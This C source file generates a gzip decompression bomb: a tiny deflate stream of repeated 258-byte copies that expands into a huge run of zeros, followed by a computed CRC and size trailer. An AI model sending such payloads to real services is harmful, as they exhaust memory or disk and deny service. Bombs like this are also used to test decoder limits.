/*
 * One deflate block with the fixed code: a literal 0, then copies of length 258 at
 * distance 1, 13 bits each. Eight copies are 13 bytes, so past the first bits the stream
 * repeats itself.
 */
#include "bomb.h"

#include <string.h>

struct bits {
	unsigned char data[4096];
	int len;
	uint32_t pending;
	int count;
	bool (*put)(const void *data, int len, void *arg);
	void *arg;
	bool good;
};

static void flush(struct bits *bits)
{
	bits->good =
		bits->good && (!bits->len || bits->put(bits->data, bits->len, bits->arg));
	bits->len = 0;
}

static void add_byte(struct bits *bits, unsigned char byte)
{
	if (bits->len == (int)sizeof(bits->data))
		flush(bits);
	bits->data[bits->len++] = byte;
}

static void add_bits(struct bits *bits, uint32_t value, int count)
{
	bits->pending |= value << bits->count;
	for (bits->count += count; bits->count >= 8; bits->count -= 8) {
		add_byte(bits, (unsigned char)bits->pending);
		bits->pending >>= 8;
	}
}

/* Huffman codes are sent from their highest bit on. */
static uint32_t reversed(uint32_t code, int count)
{
	uint32_t out = 0;

	for (int i = 0; i < count; i++)
		out |= (code >> i & 1) << (count - 1 - i);
	return out;
}

static uint32_t crc_of_zeros(int64_t zeros)
{
	uint32_t table[256], crc = 0xffffffff;

	for (uint32_t i = 0; i < 256; i++) {
		table[i] = i;
		for (int bit = 0; bit < 8; bit++)
			table[i] = table[i] >> 1 ^ (table[i] & 1 ? 0xedb88320 : 0);
	}
	while (zeros-- > 0)
		crc = table[crc & 0xff] ^ crc >> 8;
	return ~crc;
}

static void add_word(struct bits *bits, uint32_t word)
{
	for (int i = 0; i < 4; i++)
		add_byte(bits, (unsigned char)(word >> 8 * i));
}

bool bomb_write(
	int64_t zeros, bool (*put)(const void *data, int len, void *arg), void *arg)
{
	static const unsigned char head[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
	struct bits bits = {.put = put, .arg = arg, .good = true};
	int64_t copies = zeros / 258;

	for (size_t i = 0; i < sizeof(head); i++)
		add_byte(&bits, head[i]);
	add_bits(&bits, 1 | 1 << 1, 3); /* last block, fixed code */
	add_bits(&bits, reversed(0x30, 8), 8);
	for (int64_t i = 0; i < copies && bits.good; i++)
		add_bits(&bits, reversed(0xc5, 8),
			13);   /* length 258, then distance code 0 */
	add_bits(&bits, 0, 7); /* end of block */
	add_bits(&bits, 0, 7); /* to a whole byte */
	if (bits.good) {
		add_word(&bits, crc_of_zeros(copies * 258 + 1));
		add_word(&bits, (uint32_t)(copies * 258 + 1));
	}
	flush(&bits);
	return bits.good;
}
